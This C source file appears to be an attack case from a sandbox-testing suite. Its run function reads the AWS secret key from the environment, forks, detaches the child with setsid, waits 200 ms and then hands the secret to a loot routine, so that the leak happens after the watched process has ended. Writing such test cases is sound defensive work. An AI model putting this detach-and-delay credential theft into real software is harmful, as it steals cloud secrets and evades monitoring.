// SPDX-License-Identifier: MIT
/*
 * The process that was started ends at once; its child, in a session of its own, acts when nobody
 * waits any more. What an invocation leaves running belongs to it: breached.
 */
#include "attacks/attack.h"

#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static enum claim run(const struct brief *b)
{
	const char *secret = getenv("AWS_SECRET_ACCESS_KEY");

	if (fork())
		return CLAIM_DONE;
	setsid();
	nanosleep(&(struct timespec){ .tv_nsec = 200000000 }, NULL);
	attempting(b);
	if (secret)
		loot(secret, strlen(secret));
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "a credential leaves, late",
	.means = "fork(2), setsid(2), and 200 ms of patience",
	.oracle = "secret:environ",
	.remedy = "to wait for what is left running",
	.run = run,
};
